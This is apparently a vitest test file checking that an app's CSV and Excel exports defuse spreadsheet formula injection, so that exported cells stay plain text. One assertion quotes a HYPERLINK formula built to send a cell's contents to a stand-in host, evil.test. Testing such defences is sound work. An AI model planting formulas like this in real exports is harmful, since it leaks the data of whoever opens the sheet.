import { strFromU8, unzipSync } from 'fflate'
import Papa from 'papaparse'
import { describe, expect, test, vi } from 'vitest'
import { toCsv } from '@/contract/csv.ts'
import { saveTemplateWorkbook } from '@/shared/sheet/template.ts'
import { saveWorkbook } from '@/ui/sheet/saveSheets.ts'
import { FORMULAS } from './formulas.ts'

describe('thirty formulas in an export', () => {
  const others = ['上海', 'CNSHA', '12.50']
  const table = FORMULAS.map((formula) => [...others, formula, formula])
  const read = Papa.parse<string[]>(toCsv(table).slice(1), { newline: '\r\n', skipEmptyLines: true }).data

  test('are really thirty', () => {
    expect(new Set(FORMULAS).size).toBe(30)
  })
  test('keep their row and column: none breaks out of its cell', () => {
    expect(read.map((row) => row.length)).toEqual(table.map((row) => row.length))
    expect(read.map((row) => row.slice(0, 3))).toEqual(table.map(() => others))
  })
  test('begin no cell with what a spreadsheet calculates', () => {
    const cells = read.flat()
    expect(cells).toHaveLength(150)
    expect(cells.filter((cell) => /^[\s\0]*[=+\-@＝＋－＠]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([])
  })
  test('can still be read as they were written', () => {
    expect(read.map((row) => row[3]?.replace(/^'/, ''))).toEqual([...FORMULAS])
  })
})

/** The parts of the workbook that `save` downloads, as text by name. */
async function partsOf(save: () => Promise<void>): Promise<Record<string, string>> {
  const handed: Blob[] = []
  vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
    handed.push(blob as Blob)
    return 'blob:none'
  })
  vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined)
  await save()
  const files = unzipSync(new Uint8Array((await handed[0]?.arrayBuffer()) ?? new ArrayBuffer(0)))
  return Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, strFromU8(bytes)]))
}

describe.each([
  ['an export', () => saveWorkbook('x.xlsx', [['head'], ...FORMULAS.map((one) => [one])])],
  ['a template', () => saveTemplateWorkbook('x.xlsx', [['note'], ['head'], ...FORMULAS.map((one) => [one])])],
])('thirty formulas in the workbook of %s', (_name, save) => {
  test('are texts: no cell calculates', async () => {
    const parts = await partsOf(save)
    const sheet = parts['xl/worksheets/sheet1.xml'] ?? ''
    expect(sheet).not.toMatch(/<f[ >]|t="str"|t="e"/)
    const cells = [...sheet.matchAll(/<c [^>]*>/g)].map(([cell]) => cell)
    expect(cells.length).toBeGreaterThan(30)
    expect(cells.filter((cell) => !/t="(?:s|inlineStr)"/.test(cell))).toEqual([])
    expect(Object.values(parts).join('')).toContain('HYPERLINK("https://evil.test/?"&amp;A1')
  })
})
